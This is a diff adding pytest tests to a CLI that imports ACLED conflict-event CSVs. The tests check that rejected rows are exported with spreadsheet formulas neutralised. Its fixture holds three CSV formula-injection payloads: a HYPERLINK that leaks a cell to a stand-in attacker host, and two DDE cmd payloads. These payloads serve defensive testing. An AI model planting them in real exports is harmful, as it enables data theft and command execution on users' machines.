@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from atlas.cli import main
@@ -131,3 +135,61 @@ def test_layers_command_still_works_with_imported_data(data, capsys):
     code, out, _ = _run(capsys, "layers", "--json")
     assert code == 0
     assert json.loads(out)["incidents"]["rows"] == 3 + 4
+
+
+HOSTILE_CELLS = {
+    "event_date": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "fatalities": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "latitude": "+cmd|' /C notepad'!A0",
+}
+
+
+def _acled_with_hostile_rows(folder: Path) -> Path:
+    """The fixture export with three more rows, each rejected for a cell that is a formula."""
+    table = pd.read_csv(FIXTURES / "acled_current_dyadic.csv", dtype=str, keep_default_na=False)
+    template = table.iloc[0].to_dict()
+    rows = [
+        {**template, "event_id_cnty": f"EVIL{n}", column: value}
+        for n, (column, value) in enumerate(HOSTILE_CELLS.items())
+    ]
+    path = folder / "export.csv"
+    pd.concat([table, pd.DataFrame(rows)]).to_csv(path, index=False)
+    return path
+
+
+def test_rejected_rows_csv_is_written_formula_safe(data, tmp_path, capsys):
+    out = tmp_path / "rejected.csv"
+    code, _, _ = _run(
+        capsys, "import", str(_acled_with_hostile_rows(tmp_path)), "--rejected-csv", str(out)
+    )
+    assert code == 0
+    content = out.read_bytes()
+    assert content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    assert [r["status"] for r in rows] == ["rejected"] * 3
+    assert [r["row"] for r in rows] == ["5", "6", "7"]  # row numbers stay numbers
+    values = [r["value"] for r in rows]
+    assert all(v.startswith("'") for v in values), values
+    assert values[0] == "'" + HOSTILE_CELLS["event_date"]
+    assert not re.search(rb"(^|,)[=+@-]", content.replace(b'"', b"")), content
+
+
+def test_rejected_rows_csv_is_written_when_nothing_could_be_imported(data, tmp_path, capsys):
+    path = tmp_path / "bad.csv"
+    table = pd.read_csv(FIXTURES / "acled_current_dyadic.csv", dtype=str, keep_default_na=False)
+    table["event_date"] = "=1+1"
+    table.to_csv(path, index=False)
+    out = tmp_path / "rejected.csv"
+    code, _, err = _run(capsys, "import", str(path), "--rejected-csv", str(out))
+    assert code == 2
+    assert "no row could be imported" in err
+    assert out.read_text(encoding="utf-8-sig").count("'=1+1") == len(table)
+
+
+def test_rejected_rows_csv_that_cannot_be_written_is_named(data, tmp_path, capsys):
+    out = tmp_path / "no-such-folder" / "rejected.csv"
+    code, _, err = _run(
+        capsys, "import", str(_acled_with_hostile_rows(tmp_path)), "--rejected-csv", str(out)
+    )
+    assert code == 2
+    assert str(out) in err
